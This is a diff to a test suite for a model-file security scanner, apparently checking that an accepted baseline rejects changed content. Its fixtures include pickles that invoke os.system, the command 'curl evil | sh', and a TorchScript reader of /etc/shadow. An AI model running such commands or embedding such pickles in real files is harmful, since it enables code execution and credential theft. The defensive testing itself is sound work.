@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import math
 import os
 import pickle
 import zipfile
@@ -31,15 +32,20 @@ ACCEPT = ("--write-baseline", "b.json", "--reason", "known")
 PICKLES = ("audit", "a.pt", "--select", "pickles")
 
 
+def fail_with_other_content(statecli, write, accepted, other, words=PICKLES):
+    """Accept the findings of a content, check that another content fails, and return the accepted rules."""
+    write(accepted)
+    statecli(*words, *ACCEPT)
+    assert statecli(*words, "--baseline", "b.json").code == 0
+    write(other)
+    assert statecli(*words, "--baseline", "b.json").code == 1
+    return {entry["rule"] for entry in json.loads(Path("b.json").read_text())["findings"]}
+
+
 def test_another_command_of_an_accepted_call_fails(statecli, folder):
     """The baseline accepted `os.system` only with the command `echo hello`."""
-    save("echo hello")
-    assert statecli(*PICKLES, *ACCEPT).code == 0
-    assert statecli(*PICKLES, "--baseline", "b.json").code == 0
-    save("curl evil | sh")
-    result = statecli(*PICKLES, "--baseline", "b.json")
-    assert result.code == 1
-    assert "the content of this finding has changed" in result.err
+    assert fail_with_other_content(statecli, save, "echo hello", "curl evil | sh")
+    assert "the content of this finding has changed" in statecli(*PICKLES, "--baseline", "b.json").err
 
 
 class Settings:
@@ -60,24 +66,22 @@ def test_an_unknown_class_with_other_weights_is_accepted(statecli, folder):
 @pytest.mark.parametrize("legacy", [True, False])
 def test_a_harmful_call_with_other_tensors_fails(statecli, folder, legacy):
     """A call with a tensor as argument runs the content of the tensor."""
-    for code, expected in (("print(1)", 0), ("print(2)", 1)):
+
+    def write(code):
         tensor = torch.tensor(list(code.encode()), dtype=torch.uint8)
         torch.save({"w": tensor, "x": Call(os.system, tensor)}, "a.pt", _use_new_zipfile_serialization=not legacy)
-        if not expected:
-            statecli(*PICKLES, *ACCEPT)
-            assert json.loads(Path("b.json").read_text())["findings"]
-        assert statecli(*PICKLES, "--baseline", "b.json").code == expected
+
+    assert fail_with_other_content(statecli, write, "print(1)", "print(2)")
 
 
 def test_harmful_data_with_other_tensors_fails(statecli, folder):
     """A path that a callback loads may be in a file with tensors: path and tensors are accepted together."""
-    for weights, expected in ((torch.zeros(4), 0), (torch.ones(4), 1)):
+
+    def write(weights):
         callback = {"ModelCheckpoint": {"best_model_path": "http://host/best.ckpt"}}
         torch.save({"state_dict": {"w": weights}, "callbacks": callback, "pytorch-lightning_version": "2"}, "a.pt")
-        if not expected:
-            statecli(*PICKLES, *ACCEPT)
-            assert "unsafe-data" in {entry["rule"] for entry in json.loads(Path("b.json").read_text())["findings"]}
-        assert statecli(*PICKLES, "--baseline", "b.json").code == expected
+
+    assert "unsafe-data" in fail_with_other_content(statecli, write, torch.zeros(4), torch.ones(4))
 
 
 def test_a_file_of_too_many_bytes_is_not_accepted(statecli, folder, monkeypatch):
@@ -133,23 +137,21 @@ def test_a_script_that_reads_a_file_with_another_path_fails(statecli, folder):
         def forward(self):
             return torch.from_file(self.path, False, 4)
 
-    for path, code in (("weights.bin", 0), ("/etc/shadow", 1)):
+    def write(path):
         torch.jit.save(torch.jit.script(Reader(path)), "a.pt")
-        if not code:
-            statecli(*PICKLES, *ACCEPT)
-            assert json.loads(Path("b.json").read_text())["findings"]
-        assert statecli(*PICKLES, "--baseline", "b.json").code == code
+
+    assert fail_with_other_content(statecli, write, "weights.bin", "/etc/shadow")
 
 
 @pytest.mark.parametrize("legacy", [True, False])
 def test_another_nested_pickle_fails(statecli, folder, legacy):
     """The pickle is in a byte string, in both of torch's formats."""
-    for command, code in (("echo", 0), ("curl", 1)):
+
+    def write(command):
         payload = {"w": torch.zeros(1), "x": pickle.dumps(Call(os.system, command))}
         torch.save(payload, "a.pt", _use_new_zipfile_serialization=not legacy)
-        if not code:
-            statecli(*PICKLES, *ACCEPT)
-        assert statecli(*PICKLES, "--baseline", "b.json").code == code
+
+    assert fail_with_other_content(statecli, write, "echo", "curl")
 
 
 def test_another_pickle_that_cannot_be_read_fails(statecli, folder):
@@ -165,14 +167,14 @@ def test_another_pickle_that_cannot_be_read_fails(statecli, folder):
 
 def test_other_values_of_an_accepted_mismatch_fail(statecli, folder):
     """The baseline accepts the digest of the finding and no other digest."""
-    save_file({"w": torch.zeros(3)}, "m.safetensors")
+
+    def write(weights):
+        save_file({"w": weights}, "m.safetensors")
+
+    write(torch.zeros(3))
     assert statecli("lock", "m.safetensors", "-o", "lock.json").code == 0
     audit = ("audit", "m.safetensors", "--lock", "lock.json", "--select", "lock")
-    save_file({"w": torch.ones(3)}, "m.safetensors")
-    assert statecli(*audit, *ACCEPT).code == 0
-    assert statecli(*audit, "--baseline", "b.json").code == 0
-    save_file({"w": torch.full((3,), 6.0)}, "m.safetensors")
-    assert statecli(*audit, "--baseline", "b.json").code == 1
+    assert fail_with_other_content(statecli, write, torch.ones(3), torch.full((3,), 6.0), audit)
 
 
 @pytest.mark.parametrize("tensors", [{"w": torch.zeros(3), "new": torch.ones(2)}, {"w": torch.ones(3).half()}])
@@ -189,11 +191,12 @@ def test_a_mismatch_without_a_digest_is_never_accepted(statecli, folder, tensors
 
 def test_more_nan_than_were_accepted_fail(statecli, folder):
     """A rule without a digest uses the message as the accepted content."""
+
+    def write(values):
+        torch.save({"w": torch.tensor(values)}, "a.pt")
+
     audit = ("audit", "a.pt", "--select", "nan", "--values")
-    torch.save({"w": torch.tensor([float("nan"), 1.0, 2.0])}, "a.pt")
-    assert statecli(*audit, *ACCEPT).code == 0
-    torch.save({"w": torch.tensor([float("nan"), float("nan"), 2.0])}, "a.pt")
-    assert statecli(*audit, "--baseline", "b.json").code == 1
+    assert fail_with_other_content(statecli, write, [math.nan, 1.0, 2.0], [math.nan, math.nan, 2.0], audit)
 
 
 def test_the_fingerprint_of_another_payload_is_another(statecli, folder):
